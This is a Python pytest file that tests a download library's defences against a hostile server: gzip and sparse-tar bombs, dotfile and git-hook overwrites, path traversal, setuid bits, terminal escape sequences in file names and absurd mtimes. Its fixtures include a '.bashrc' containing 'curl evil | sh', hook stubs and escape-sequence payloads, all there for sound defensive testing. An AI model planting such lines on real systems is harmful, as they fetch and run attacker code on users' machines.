"""Downloads from a hostile server cannot fill the disk, replace files or plant hooks (#12)."""

from __future__ import annotations

import os
import stat
import uuid
from pathlib import Path

import pytest

from flamehub.errors import (
    DownloadTargetExists,
    DownloadTooLarge,
    UnsafeArchiveMember,
    UnsafeDownloadTarget,
)
from flamehub.files import (
    DEFAULT_EXPANSION_MARGIN,
    DEFAULT_EXPANSION_RATIO,
    MAX_EXTRACTED_MTIME,
    extract_tar_stream,
)
from flamehub.models import Bucket, BucketFile
from tests.security.conftest import (
    Answer,
    HostileServer,
    files_below,
    gzip_bytes,
    sparse_tar,
    tar_of,
)

GiB = 1 << 30
MiB = 1 << 20
#: A bomb that expands beyond the default bound: 80 MiB of zeros, about 80 KiB gzipped.
BOMB_SIZE = 80 * MiB


def serve_tarball(hostile: HostileServer, data: bytes, **headers: str) -> Bucket:
    bucket_id = uuid.uuid4()
    hostile.routes[f"/storage/buckets/{bucket_id}/stream"] = Answer(
        data, headers={"Content-Type": "application/x-tar", **headers}
    )
    return Bucket(id=bucket_id)


def disk_use(root: Path) -> int:
    return sum(p.stat().st_blocks * 512 for p in root.rglob("*") if p.is_file())


# -- item 3: archives that fill the disk ------------------------------------------------


def test_sparse_member_of_2_kb_announcing_1_gib_is_refused(
    hostile: HostileServer, tmp_path: Path
) -> None:
    archive = sparse_tar("huge.bin", GiB)
    assert len(archive) < 4096
    bucket = serve_tarball(hostile, archive)
    with pytest.raises(UnsafeArchiveMember, match="sparse") as caught:
        bucket.download_all(to=tmp_path / "out", using=hostile.hub())
    assert caught.value.member == "huge.bin"
    assert files_below(tmp_path / "out") == []
    assert disk_use(tmp_path) < MiB


def test_gzip_encoded_tar_bomb_is_bounded_by_default(
    hostile: HostileServer, tmp_path: Path
) -> None:
    bomb = gzip_bytes(BOMB_SIZE)
    assert len(bomb) < BOMB_SIZE // 500  # the attack: ~1000:1
    bucket = serve_tarball(hostile, bomb, **{"Content-Encoding": "gzip"})
    limit = DEFAULT_EXPANSION_RATIO * len(bomb) + DEFAULT_EXPANSION_MARGIN
    assert limit < BOMB_SIZE
    with pytest.raises(DownloadTooLarge, match="max_bytes") as caught:
        bucket.download_all(to=tmp_path / "out", using=hostile.hub())
    assert caught.value.limit <= limit
    # nothing half-written under a final name, no temporary file left behind
    assert files_below(tmp_path / "out") == []
    assert disk_use(tmp_path) < limit


def test_gzip_encoded_tarball_download_is_bounded_too(
    hostile: HostileServer, tmp_path: Path
) -> None:
    bucket = serve_tarball(hostile, gzip_bytes(BOMB_SIZE), **{"Content-Encoding": "gzip"})
    with pytest.raises(DownloadTooLarge):
        bucket.download_tarball(to=tmp_path / "bomb.tar", using=hostile.hub())
    assert files_below(tmp_path) == []


def test_max_bytes_raises_the_bound_explicitly(hostile: HostileServer, tmp_path: Path) -> None:
    bucket = serve_tarball(hostile, gzip_bytes(BOMB_SIZE), **{"Content-Encoding": "gzip"})
    written = bucket.download_all(
        to=tmp_path / "out", using=hostile.hub(), max_bytes=BOMB_SIZE + 2 * MiB
    )
    assert [path.stat().st_size for path in written] == [BOMB_SIZE]


def test_max_bytes_also_lowers_it(tmp_path: Path) -> None:
    archive = tar_of(("a.bin", b"a" * 5000, 0o644), ("b.bin", b"b" * 5000, 0o644))
    with pytest.raises(DownloadTooLarge):
        extract_tar_stream([archive], tmp_path, max_bytes=8000)
    assert files_below(tmp_path) == ["a.bin"]


# -- item 5: downloads that replace files, plant hooks or keep exec bits -----------------


def test_archive_does_not_replace_an_existing_dotfile(
    hostile: HostileServer, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    bucket = serve_tarball(hostile, tar_of((".bashrc", b"curl evil | sh\n", 0o644)))
    with pytest.raises(DownloadTargetExists, match=r"\.bashrc") as caught:
        bucket.download_all(to=home, using=hostile.hub())
    assert caught.value.path == str(home.resolve() / ".bashrc")
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert files_below(home) == [".bashrc"]  # no temporary file either
    bucket.download_all(to=home, using=hostile.hub(), overwrite=True)
    assert (home / ".bashrc").read_text() == "curl evil | sh\n"


def test_archive_cannot_write_a_git_hook(hostile: HostileServer, tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    bucket = serve_tarball(hostile, tar_of((".git/hooks/pre-commit", b"#!/bin/sh\nevil\n", 0o755)))
    with pytest.raises(UnsafeArchiveMember, match=r"\.git"):
        bucket.download_all(to=repo, using=hostile.hub(), overwrite=True)
    assert files_below(repo / ".git") == ["hooks"]
    with pytest.raises(UnsafeDownloadTarget, match=r"\.git"):
        serve_tarball(hostile, tar_of(("pre-commit", b"evil", 0o755))).download_all(
            to=repo / ".git" / "hooks", using=hostile.hub()
        )
    assert files_below(repo / ".git") == ["hooks"]


def test_archive_cannot_make_files_executable(hostile: HostileServer, tmp_path: Path) -> None:
    bucket = serve_tarball(hostile, tar_of(("run.sh", b"#!/bin/sh\n", 0o4777)))
    [path] = bucket.download_all(to=tmp_path, using=hostile.hub())
    mode = stat.S_IMODE(path.stat().st_mode)
    assert mode & 0o7111 == 0, oct(mode)


def test_archive_cannot_escape_with_dotdot(hostile: HostileServer, tmp_path: Path) -> None:
    bucket = serve_tarball(hostile, tar_of(("../../outside.txt", b"x", 0o644)))
    with pytest.raises(UnsafeArchiveMember, match="'..'"):
        bucket.download_all(to=tmp_path / "a" / "b", using=hostile.hub())
    assert files_below(tmp_path) == ["a", "a/b"]


def serve_file(hostile: HostileServer, data: bytes) -> BucketFile:
    file_id = uuid.uuid4()
    hostile.routes[f"/storage/bucket-files/{file_id}/stream"] = Answer(
        data, headers={"Content-Type": "application/octet-stream"}
    )
    return BucketFile(id=file_id, name="notes.txt", size=len(data))


def test_file_download_does_not_replace_an_existing_file(
    hostile: HostileServer, tmp_path: Path
) -> None:
    target = tmp_path / "notes.txt"
    target.write_text("mine")
    target.chmod(0o755)
    served = serve_file(hostile, b"theirs")
    with pytest.raises(DownloadTargetExists, match="notes.txt"):
        served.download(to=tmp_path, using=hostile.hub())
    assert hostile.seen == []  # refused before any request
    assert target.read_text() == "mine"
    served.download(to=tmp_path, using=hostile.hub(), overwrite=True)
    assert target.read_text() == "theirs"
    assert stat.S_IMODE(target.stat().st_mode) & 0o111 == 0  # the old exec bit is not kept


def test_file_download_never_goes_into_git(hostile: HostileServer, tmp_path: Path) -> None:
    hooks = tmp_path / ".git" / "hooks"
    hooks.mkdir(parents=True)
    with pytest.raises(UnsafeDownloadTarget):
        serve_file(hostile, b"evil").download(to=hooks / "pre-commit", using=hostile.hub())
    assert hostile.seen == [] and files_below(hooks) == []


# -- item 7: control characters in names written ----------------------------------------


def test_server_file_name_with_escapes_is_replaced_on_disk(
    hostile: HostileServer, tmp_path: Path
) -> None:
    served = serve_file(hostile, b"x")
    hostile_name = "\x1b]52;c;ZXZpbA==\x07report\x1b[2J.txt"
    served = BucketFile(id=served.id, name=hostile_name, size=1)
    path = served.download(to=tmp_path, using=hostile.hub())
    assert path.name == "_]52;c;ZXZpbA==_report_[2J.txt"
    assert files_below(tmp_path) == [path.name]


def test_archive_member_with_escapes_is_refused(hostile: HostileServer, tmp_path: Path) -> None:
    bucket = serve_tarball(hostile, tar_of(("ok\x1b]0;pwned\x07.txt", b"x", 0o644)))
    with pytest.raises(UnsafeArchiveMember, match="control characters") as caught:
        bucket.download_all(to=tmp_path, using=hostile.hub())
    assert "\x1b" not in str(caught.value)  # the message shows the name escaped
    assert files_below(tmp_path) == []


# -- #11 item 3: an absurd mtime --------------------------------------------------------


@pytest.mark.parametrize("mtime", [10**20, 2**80, "1e400", "inf", "nan", "-5"])
def test_absurd_mtime_is_clamped_not_an_exception(tmp_path: Path, mtime: int | str) -> None:
    archive = tar_of(("a.txt", b"alpha", 0o644), mtime=mtime)
    [path] = extract_tar_stream([archive], tmp_path)
    assert path.read_bytes() == b"alpha"
    actual = os.stat(path).st_mtime
    assert 0 < actual <= MAX_EXTRACTED_MTIME
    if isinstance(mtime, int) or mtime in ("1e400", "inf"):
        assert actual == MAX_EXTRACTED_MTIME


def test_a_symlink_to_git_hooks_does_not_lead_into_them(
    hostile: HostileServer, tmp_path: Path
) -> None:
    hooks = tmp_path / "repo" / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (tmp_path / "innocent").symlink_to(hooks, target_is_directory=True)
    with pytest.raises(UnsafeDownloadTarget):
        serve_file(hostile, b"evil").download(to=tmp_path / "innocent", using=hostile.hub())
    with pytest.raises(UnsafeDownloadTarget):
        serve_tarball(hostile, tar_of(("pre-commit", b"evil", 0o755))).download_all(
            to=tmp_path / "innocent", using=hostile.hub()
        )
    assert files_below(hooks) == [] and hostile.seen == []
